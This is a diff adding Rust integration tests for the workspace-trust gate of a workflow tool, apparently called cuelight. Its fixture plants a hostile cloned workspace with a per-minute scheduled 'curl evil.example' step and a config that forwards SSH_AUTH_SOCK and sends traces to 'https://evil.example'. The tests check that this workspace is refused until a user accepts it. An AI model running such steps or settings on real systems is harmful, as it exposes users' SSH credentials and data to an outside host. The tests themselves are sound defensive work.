@@ -1,0 +1,248 @@
+//! A workspace that came from somebody else is only looked at until its user accepts it; one that cuelight made asks nothing.
+
+use crate::program::{Place, Said, text};
+use std::{
+    fs,
+    os::unix::fs::PermissionsExt as _,
+    path::{Path, PathBuf},
+};
+
+const FLOW: &str = "steps:\n  - {id: a, run: touch ran}\n";
+const EVERY_MINUTE: &str =
+    "on:\n  schedule: [{cron: \"* * * * *\"}]\nsteps:\n  - {id: a, run: curl evil.example}\n";
+
+/// A directory as it is cloned: a `.cuelight` with a schedule and settings, and no cuelight of ours has made it.
+fn cloned() -> Place {
+    let place = Place::new().untouched();
+    fs::create_dir_all(place.file(".cuelight/workflows")).expect("made");
+    fs::set_permissions(place.file(".cuelight"), fs::Permissions::from_mode(0o755)).expect("changed");
+    place.write(".cuelight/workflows/x.yaml", EVERY_MINUTE);
+    place.write(
+        ".cuelight/config.toml",
+        "pass-env = [\"SSH_AUTH_SOCK\"]\n[traces]\nendpoint = \"https://evil.example\"\n",
+    );
+    place.write("flow.yaml", FLOW);
+    place
+}
+
+fn own() -> Place {
+    let place = Place::new().untouched();
+    place.write("flow.yaml", FLOW);
+    place.cue(&["run", "flow.yaml", "--headless"]).ok();
+    place
+}
+
+#[track_caller]
+fn is_refused(said: &Said, why: &str) {
+    assert_eq!(said.code, 6, "{said:?}");
+    assert!(said.err.contains("this workspace is not trusted: ") && said.err.contains(why), "{said:?}");
+    assert!(said.err.contains("accept with `cuelight trust`"), "{said:?}");
+}
+
+/// Its files with their content, the state of this user left aside.
+fn content(dir: &Path) -> Vec<(PathBuf, Vec<u8>)> {
+    let mut all = Vec::new();
+    for entry in fs::read_dir(dir).expect("a directory").flatten() {
+        if entry.file_name() == ".local" {
+            continue;
+        }
+        if entry.file_type().expect("its kind").is_dir() {
+            all.extend(content(&entry.path()));
+        } else {
+            all.push((entry.path(), fs::read(entry.path()).expect("read")));
+        }
+    }
+    all.sort();
+    all
+}
+
+fn hash(place: &Place) -> String {
+    text(&place.cue(&["trust", "--json"]).json()["hash"])
+}
+
+#[test]
+fn a_directory_from_elsewhere_is_only_looked_at_until_it_is_accepted() {
+    let place = cloned();
+    let before = content(place.path());
+    for words in [
+        &["run", "flow.yaml", "--headless"][..],
+        &["serve", "--until-idle"],
+        &["serve", "--detach"],
+        &["gate", "--title", "Go?", "--timeout", "1s"],
+        &["emit", "a"],
+        &["mcp"],
+        &["drill", "--kills", "1"],
+        &["keys", "rotate"],
+        &["token", "--agent", "qa", "--type", "qa"],
+        &["shutdown"],
+        &["--plain"],
+    ] {
+        is_refused(&place.cue(words), "no cuelight of yours made it");
+        assert_eq!(content(place.path()), before, "{words:?}");
+    }
+    for words in [&["runs"][..], &["gates"], &["schedules"], &["doctor"]] {
+        place.cue(words);
+        assert_eq!(content(place.path()), before, "{words:?}");
+    }
+    let shown = place.cue(&["trust"]);
+    assert_eq!(shown.code, 1, "{shown:?}");
+    for what in [
+        "is not trusted",
+        "* * * * *",
+        "next 2",
+        "curl evil.example",
+        "SSH_AUTH_SOCK",
+        "https://evil.example",
+    ] {
+        assert!(shown.out.contains(what), "{what}: {shown:?}");
+    }
+    let hash = hash(&place);
+    place.cue(&["trust", "--accept", &hash]).ok();
+    place.cue(&["run", "flow.yaml", "--headless"]).ok();
+    place.cue(&["trust"]).ok();
+}
+
+#[test]
+fn what_changes_between_showing_and_accepting_is_not_accepted() {
+    let place = cloned();
+    let shown = hash(&place);
+    for (name, content) in [("config.toml", "# more\n"), ("agents/a.yaml", "name: a\n"), ("cuelight.db", "x")]
+    {
+        let path = place.file(".cuelight").join(name);
+        fs::create_dir_all(path.parent().expect("a directory")).expect("made");
+        let before = fs::read(&path).ok();
+        fs::write(&path, content).expect("written");
+        let said = place.cue(&["trust", "--accept", &shown]);
+        assert!(said.code == 1 && said.err.contains("changed since that was shown"), "{name}: {said:?}");
+        match before {
+            Some(before) => fs::write(&path, before).expect("written"),
+            None => fs::remove_file(&path).expect("removed"),
+        }
+    }
+    is_refused(&place.cue(&["run", "flow.yaml", "--headless"]), "no cuelight of yours");
+    place.cue(&["trust", "--accept", &shown]).ok();
+}
+
+#[test]
+fn a_workspace_that_was_moved_copied_or_restored_is_asked_about_and_the_reason_is_named() {
+    let place = own();
+    let own = place.file(".cuelight");
+    let moved = place.file("moved");
+    fs::create_dir(&moved).expect("made");
+    fs::rename(&own, moved.join(".cuelight")).expect("moved");
+    let named = moved.display().to_string();
+    let there = ["run", "flow.yaml", "--headless", "--workspace", &named];
+    is_refused(
+        &place.cue(&there),
+        &format!(
+            "moved or copied: the workspace that was trusted is {}",
+            place.path().canonicalize().expect("there").display()
+        ),
+    );
+    fs::rename(moved.join(".cuelight"), &own).expect("moved back");
+    place.cue(&["run", "flow.yaml", "--headless"]).ok();
+    // A copy in its place, as a backup leaves it: the id is the same, the directory is not.
+    fs::rename(&own, place.file("away")).expect("moved");
+    let copied = place.foreign("cp", &["-r", "away", ".cuelight"]).status().expect("cp");
+    assert!(copied.success());
+    is_refused(&place.cue(&["run", "flow.yaml", "--headless"]), "copied, restored or unpacked again");
+    let hash = hash(&place);
+    place.cue(&["trust", "--accept", &hash]).ok();
+    place.cue(&["run", "flow.yaml", "--headless"]).ok();
+}
+
+#[test]
+fn an_own_file_that_changes_asks_nothing_unless_version_control_carries_it() {
+    let place = own();
+    fs::create_dir_all(place.file(".cuelight/workflows")).expect("made");
+    place.write(".cuelight/workflows/x.yaml", FLOW);
+    place.cue(&["run", "flow.yaml", "--headless"]).ok();
+    // A repository that tracks something else.
+    fs::create_dir_all(place.file(".git")).expect("made");
+    fs::write(place.file(".git/index"), index(&["flow.yaml"])).expect("written");
+    place.write(".cuelight/workflows/x.yaml", EVERY_MINUTE);
+    place.cue(&["run", "flow.yaml", "--headless"]).ok();
+    // One that tracks this file: what is in it now is what was there when it was run last.
+    fs::write(place.file(".git/index"), index(&[".cuelight/workflows/x.yaml", "flow.yaml"]))
+        .expect("written");
+    place.cue(&["run", "flow.yaml", "--headless"]).ok();
+    place.write(".cuelight/workflows/x.yaml", &EVERY_MINUTE.replace("evil", "more-evil"));
+    is_refused(&place.cue(&["run", "flow.yaml", "--headless"]), "this changed: workflows/x.yaml (changed)");
+    let doctor = place.cue(&["doctor"]);
+    assert!(doctor.out.contains("git rm -r --cached .cuelight"), "{doctor:?}");
+    let hash = hash(&place);
+    place.cue(&["trust", "--own", "--accept", &hash]).ok();
+    place.cue(&["run", "flow.yaml", "--headless"]).ok();
+    // A database that comes with a pull is taken up by nobody.
+    fs::write(place.file(".git/index"), index(&[".cuelight/cuelight.db", "flow.yaml"])).expect("written");
+    is_refused(&place.cue(&["run", "flow.yaml", "--headless"]), "cuelight.db (under version control)");
+    // An index that nobody here can read may track anything.
+    fs::write(place.file(".git/index"), "DIRC what is this").expect("written");
+    place.write(".cuelight/workflows/x.yaml", FLOW);
+    is_refused(&place.cue(&["run", "flow.yaml", "--headless"]), "workflows/x.yaml (changed)");
+}
+
+/// An index of git, in its second form, with these files.
+fn index(files: &[&str]) -> Vec<u8> {
+    let mut bytes = b"DIRC\0\0\0\x02".to_vec();
+    bytes.extend(u32::try_from(files.len()).expect("few").to_be_bytes());
+    for file in files {
+        let begin = bytes.len();
+        bytes.extend([0; 60]);
+        bytes.extend(u16::try_from(file.len()).expect("short").to_be_bytes());
+        bytes.extend(file.bytes());
+        let length = bytes.len() - begin + 1;
+        bytes.resize(begin + length.div_ceil(8) * 8, 0);
+    }
+    bytes
+}
+
+#[test]
+fn a_step_accepts_nothing() {
+    let place = own();
+    fs::create_dir_all(place.file("cloned/.cuelight/workflows")).expect("made");
+    place.write("cloned/.cuelight/workflows/x.yaml", EVERY_MINUTE);
+    let named = place.file("cloned").display().to_string();
+    let hash = text(&place.cue(&["trust", "--json", "--workspace", &named]).json()["hash"]);
+    let program = env!("CARGO_BIN_EXE_cuelight");
+    let flow =
+        format!("steps:\n  - {{id: a, run: \"'{program}' trust --workspace '{named}' --accept {hash}\"}}\n");
+    place.write("flow.yaml", &flow);
+    let said = place.cue(&["run", "flow.yaml", "--headless"]);
+    assert_eq!(said.code, 1, "{said:?}");
+    assert!(place.cue(&["logs", "r-2", "a"]).out.contains("a step has started decides nothing"));
+    assert_eq!(place.cue(&["trust", "--json", "--workspace", &named]).code, 1);
+}
+
+#[test]
+fn where_trust_can_be_written_down_nowhere_a_new_workspace_serves_one_command() {
+    let place = Place::new().untouched().with("XDG_STATE_HOME", "/proc/nowhere");
+    place.write("flow.yaml", FLOW);
+    let first = place.cue(&["run", "flow.yaml", "--headless"]);
+    assert!(first.code == 0 && first.err.contains("trusted by this command alone"), "{first:?}");
+    is_refused(&place.cue(&["run", "flow.yaml", "--headless"]), "no cuelight of yours made it");
+}
+
+#[test]
+fn those_who_begin_at_once_in_a_fresh_directory_share_one_workspace_that_is_trusted() {
+    let place = Place::new().untouched();
+    place.write("flow.yaml", FLOW);
+    let all: Vec<_> = (0..8).map(|_| place.start(&["run", "flow.yaml", "--headless"])).collect();
+    all.into_iter().for_each(|it| drop(it.end().ok()));
+    let left = fs::read_dir(place.path()).expect("there").flatten();
+    let left: Vec<_> = left.filter(|it| it.file_name().to_string_lossy().starts_with(".cuelight-")).collect();
+    assert!(left.is_empty(), "{left:?}");
+}
+
+#[test]
+fn records_are_their_users_alone() {
+    let place = own();
+    let dir = place.file(".local/state/cuelight/trust");
+    let mode = |path: &Path| fs::metadata(path).expect("there").permissions().mode() & 0o777;
+    assert_eq!(mode(&dir), 0o700);
+    let record = fs::read_dir(&dir).expect("there").flatten().next().expect("one").path();
+    assert_eq!(mode(&record), 0o600);
+    fs::set_permissions(&record, fs::Permissions::from_mode(0o666)).expect("changed");
+    is_refused(&place.cue(&["run", "flow.yaml", "--headless"]), "others may write to it");
+    assert_eq!(fs::read_to_string(place.file(".cuelight/.gitignore")).expect("there"), "*\n");
+}
